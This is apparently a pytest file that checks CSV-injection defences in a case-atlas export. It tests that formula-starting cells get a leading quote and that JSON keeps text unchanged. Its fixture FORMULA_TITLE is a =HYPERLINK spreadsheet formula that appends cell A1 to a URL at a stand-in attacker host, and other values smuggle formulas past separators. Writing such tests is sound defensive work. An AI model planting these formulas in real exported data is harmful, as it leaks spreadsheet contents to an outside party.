"""Open data: CSV cells never start a spreadsheet formula, JSON keeps every text exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import VALID_CASE
from praxisatlas.cases import CaseFile
from praxisatlas.exports import csv_cell, to_csv, to_json
from praxisatlas.model import Case
from praxisatlas.source import read_case_text
from praxisatlas.views import Atlas

BASE = read_case_text("fall.md", VALID_CASE.read_bytes())[0].data
FORMULA_TITLE = '=HYPERLINK("https://boese.example/?"&A1;"Klick")'


def atlas(**changes) -> Atlas:
    case = Case.model_validate({**BASE, **changes})
    return Atlas([CaseFile("fall.md", "fall", case, "Text", 40, {})])


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("+49 Punkte", "'+49 Punkte"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rText", "'\rText"),
        ("  =1+1", "'  =1+1"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        (["=1+1", "b"], "'=1+1 | b"),
    ],
)
def test_cells_that_would_start_a_formula_get_a_leading_quote(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "value,cell",
    [("Faire Woche", "Faire Woche"), ("a=b", "a=b"), ("E-Mail", "E-Mail"), (2018, "2018"), (None, ""), ([4, 12], "4 | 12"), ("", "")],
)
def test_other_cells_are_left_as_they_are(value, cell):
    assert csv_cell(value) == cell


def test_csv_neutralises_a_formula_title_and_quotes_every_value():
    text = to_csv(atlas(title=FORMULA_TITLE, city="Testhausen;=1+1"))
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[:3] == ["slug", "url", "title"]
    assert row[header.index("title")] == "'" + FORMULA_TITLE
    # Quoted, so a spreadsheet that splits cells at ';' cannot make '=1+1' a cell of its own.
    assert '"Testhausen;=1+1"' in text.splitlines()[1]
    assert text.splitlines()[1].startswith('"fall","')


def test_json_keeps_the_exact_text():
    [record] = json.loads(to_json(atlas(title=FORMULA_TITLE)))
    assert record["title"] == FORMULA_TITLE
